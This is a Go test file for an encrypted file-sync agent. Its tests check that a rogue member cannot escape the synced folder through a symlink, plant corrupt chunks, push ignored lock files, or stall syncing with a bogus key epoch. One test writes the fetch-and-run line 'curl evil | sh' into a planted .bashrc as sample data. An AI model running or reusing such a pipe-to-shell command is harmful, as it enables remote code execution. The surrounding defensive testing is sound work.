package agent_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mattersync/mattersync/format"
	"github.com/mattersync/mattersync/gateway/api"
	"github.com/mattersync/mattersync/gateway/client"
	"github.com/mattersync/mattersync/kms"
	"github.com/mattersync/mattersync/kms/kmstest"
)

// member plays a member who talks to the gateway with their own code.
type rogue struct {
	t     *testing.T
	w     *world
	keys  *format.Keys
	codec *format.Codec
	gw    *client.Client
}

func (w *world) rogue(u kmstest.User) *rogue {
	t := w.t
	kr := w.vault.Login(t, u)
	keys := w.memberKeys(kr)
	codec, err := format.NewCodec()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(codec.Close)
	gw, err := client.New(w.gateway, kr, client.Options{Device: "rogue"})
	if err != nil {
		t.Fatal(err)
	}
	return &rogue{t: t, w: w, keys: keys, codec: codec, gw: gw}
}

// memberKeys derives the current epoch's keys of the matter as a member's
// own code would, from the keys Vault gives kr.
func (w *world) memberKeys(kr interface {
	EpochKey(ctx context.Context, matter string, n uint32) ([]byte, error)
	CurrentKey(ctx context.Context, matter string) (uint32, []byte, error)
}) *format.Keys {
	t, ctx := w.t, context.Background()
	t.Helper()
	e1, err := kr.EpochKey(ctx, w.matter, 1)
	if err != nil {
		t.Fatal(err)
	}
	fids, err := format.DeriveFileIDKey(w.matter, e1)
	if err != nil {
		t.Fatal(err)
	}
	n, cur, err := kr.CurrentKey(ctx, w.matter)
	if err != nil {
		t.Fatal(err)
	}
	keys, err := format.DeriveKeys(fids, n, cur)
	if err != nil {
		t.Fatal(err)
	}
	return keys
}

// putChunk stores plain under id (which need not be plain's ID).
func (r *rogue) putChunk(id format.ID, plain []byte) {
	r.t.Helper()
	sealed, err := r.codec.SealChunk(nil, r.keys, id, plain)
	if err != nil {
		r.t.Fatal(err)
	}
	if err := r.gw.PutChunk(context.Background(), r.w.matter, id.String(), sealed); err != nil {
		r.t.Fatal(err)
	}
}

// commit writes a new file at path with content, bypassing the agent.
func (r *rogue) commit(path string, content []byte) {
	r.t.Helper()
	id := r.keys.ChunkID(content)
	r.putChunk(id, content)
	man := &format.Manifest{Path: path, Version: 1, Size: uint64(len(content)), ModTime: time.Now(), Mode: 0o644,
		ContentHash: sha256.Sum256(content), Chunks: []format.ChunkRef{{ID: id, Size: uint32(len(content))}},
		Author: "rogue", Device: "rogue", Created: time.Now()}
	sealed, fid, err := r.keys.SealManifest(nil, man)
	if err != nil {
		r.t.Fatal(err)
	}
	if _, err := r.gw.Commit(context.Background(), r.w.matter, fid.String(), 0, api.CommitRequest{Manifest: sealed, Chunks: []string{id.String()}}); err != nil {
		r.t.Fatal(err)
	}
}

func hasProblem(sum []string, sub string) bool {
	for _, p := range sum {
		if strings.Contains(p, sub) {
			return true
		}
	}
	return false
}

// A symbolic link inside the matter folder never lets a remote file be
// written outside it.
func TestSymlinkInMatterFolderIsNotFollowed(t *testing.T) {
	w := newWorld(t)
	alice, bob := w.agent(w.member(kms.RoleRW)), w.agent(w.member(kms.RoleRW))
	outside := t.TempDir()
	if err := os.Symlink(outside, bob.path("Exhibits")); err != nil {
		t.Fatal(err)
	}
	alice.write("Exhibits/.bashrc", []byte("curl evil | sh"))
	alice.write("Other.txt", []byte("still syncs"))
	alice.sync()
	bob.sync()
	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
		t.Fatalf("the agent wrote outside the matter folder: %v", ents)
	}
	if got, err := bob.read("Other.txt"); err != nil || string(got) != "still syncs" {
		t.Fatalf("the rest of the matter stopped syncing: %q, %v", got, err)
	}
	st := bob.Status()
	if len(st.Matters) != 1 || !hasProblem(st.Matters[0].Errors, "not applied") {
		t.Fatalf("the refused write is not reported: %+v", st.Matters)
	}
}

// A folder where a remote file should go is one file's problem: the rest
// of the matter keeps syncing both ways, and the file arrives once the
// folder is gone.
func TestFolderClashIsOneFileProblem(t *testing.T) {
	w := newWorld(t)
	alice, bob := w.agent(w.member(kms.RoleRW)), w.agent(w.member(kms.RoleRW))
	if err := os.MkdirAll(bob.path("Notes/keep"), 0o755); err != nil {
		t.Fatal(err)
	}
	alice.write("Notes", []byte("a file named Notes"))
	alice.write("Later.txt", []byte("later"))
	alice.sync()
	bob.write("Mine.txt", []byte("bob's"))
	bob.sync()
	if got, _ := bob.read("Later.txt"); string(got) != "later" {
		t.Fatalf("matter stuck behind the clash: Later.txt = %q", got)
	}
	alice.sync()
	if got, _ := alice.read("Mine.txt"); string(got) != "bob's" {
		t.Fatalf("bob's upload stuck behind the clash: %q", got)
	}
	if !hasProblem(bob.Status().Matters[0].Errors, "folder") {
		t.Fatalf("clash not reported: %+v", bob.Status().Matters[0].Errors)
	}
	if err := os.RemoveAll(bob.path("Notes")); err != nil {
		t.Fatal(err)
	}
	bob.sync() // full passes retry files with problems
	if got, _ := bob.read("Notes"); string(got) != "a file named Notes" {
		t.Fatalf("after the folder is gone: Notes = %q", got)
	}
	if errs := bob.Status().Matters[0].Errors; len(errs) != 0 {
		t.Fatalf("problem not cleared: %v", errs)
	}
}

// A member who plants garbage under the chunk ID of content a colleague is
// about to save cannot make the colleague commit an unreadable version, nor
// block that content for good: the colleague's agent notices that the
// stored chunk does not open to its content and replaces it (audited by
// the gateway as chunk.replace), then commits a version everyone reads.
func TestPlantedChunkIsRepaired(t *testing.T) {
	w := newWorld(t)
	mallory := w.rogue(w.member(kms.RoleRW))
	alice, bob := w.agent(w.member(kms.RoleRW)), w.agent(w.member(kms.RoleRW))
	template := []byte("Standard engagement letter template, v7")
	mallory.putChunk(mallory.keys.ChunkID(template), []byte("garbage planted under the template's ID"))
	alice.write("Engagement.txt", template)
	sum, err := alice.SyncOnce(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if sum.Uploaded != 1 || len(sum.Problems) != 0 {
		t.Fatalf("planted chunk not repaired: %+v", sum)
	}
	bob.sync()
	if got, err := bob.read("Engagement.txt"); err != nil || !bytes.Equal(got, template) {
		t.Fatalf("bob reads %q, %v; want the template", got, err)
	}
	if got, _ := alice.read("Engagement.txt"); !bytes.Equal(got, template) {
		t.Fatal("alice's file was touched")
	}
	if n := w.auditCount("chunk.replace"); n != 1 {
		t.Fatalf("%d chunk.replace audit records, want 1", n)
	}
}

// Remote files matching the ignore list (Office lock files planted by a
// member, desktop.ini) are not written.
func TestIgnoredRemoteNamesNotWritten(t *testing.T) {
	w := newWorld(t)
	mallory := w.rogue(w.member(kms.RoleRW))
	bob := w.agent(w.member(kms.RoleRW))
	mallory.commit("~$Brief.docx", []byte("Mallory"))
	mallory.commit("desktop.ini", []byte("[.ShellClassInfo]"))
	mallory.commit("Fine.txt", []byte("fine"))
	bob.sync()
	for _, name := range []string{"~$Brief.docx", "desktop.ini"} {
		if _, err := bob.read(name); err == nil {
			t.Errorf("%s was written", name)
		}
	}
	if got, _ := bob.read("Fine.txt"); string(got) != "fine" {
		t.Fatalf("Fine.txt = %q", got)
	}
}

// A local name that is not NFC is reported, not silently skipped.
func TestNonNFCNameReported(t *testing.T) {
	w := newWorld(t)
	alice := w.agent(w.member(kms.RoleRW))
	alice.write("Cafe\u0301.txt", []byte("decomposed")) // "Café" in NFD
	sum, err := alice.SyncOnce(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if sum.Uploaded != 0 || !hasProblem(sum.Problems, "NFC") {
		t.Fatalf("NFD name: %+v", sum)
	}
	_ = filepath.Join
}

// A member who commits a file whose chunk names an epoch that does not
// exist cannot stop the matter: that file is one problem, the rest syncs.
func TestUnknownEpochIsOneFileProblem(t *testing.T) {
	w := newWorld(t)
	mallory := w.rogue(w.member(kms.RoleRW))
	alice, bob := w.agent(w.member(kms.RoleRW)), w.agent(w.member(kms.RoleRW))
	key := make([]byte, 32)
	future, err := format.DeriveKeys(mallory.keys.FileIDs(), 999, key)
	if err != nil {
		t.Fatal(err)
	}
	content := []byte("sealed under an epoch nobody has")
	id := mallory.keys.ChunkID(content)
	sealed, err := mallory.codec.SealChunk(nil, future, id, content)
	if err != nil {
		t.Fatal(err)
	}
	if err := mallory.gw.PutChunk(context.Background(), w.matter, id.String(), sealed); err != nil {
		t.Fatal(err)
	}
	man := &format.Manifest{Path: "Trap.txt", Version: 1, Size: uint64(len(content)), ModTime: time.Now(),
		ContentHash: sha256.Sum256(content), Chunks: []format.ChunkRef{{ID: id, Size: uint32(len(content))}}, Created: time.Now()}
	msealed, fid, err := mallory.keys.SealManifest(nil, man)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := mallory.gw.Commit(context.Background(), w.matter, fid.String(), 0, api.CommitRequest{Manifest: msealed, Chunks: []string{id.String()}}); err != nil {
		t.Fatal(err)
	}
	alice.write("Later.txt", []byte("later"))
	alice.sync()
	bob.write("Mine.txt", []byte("bob's"))
	sum := bob.sync()
	if got, _ := bob.read("Later.txt"); string(got) != "later" {
		t.Fatalf("the matter stalled behind the trap: %+v", sum)
	}
	alice.sync()
	if got, _ := alice.read("Mine.txt"); string(got) != "bob's" {
		t.Fatal("bob's upload stalled behind the trap")
	}
	if _, err := bob.read("Trap.txt"); err == nil {
		t.Fatal("the trap file was written")
	}
	if !hasProblem(bob.Status().Matters[0].Errors, "epoch 999 does not exist") {
		t.Fatalf("not reported: %q", bob.Status().Matters[0].Errors)
	}
}
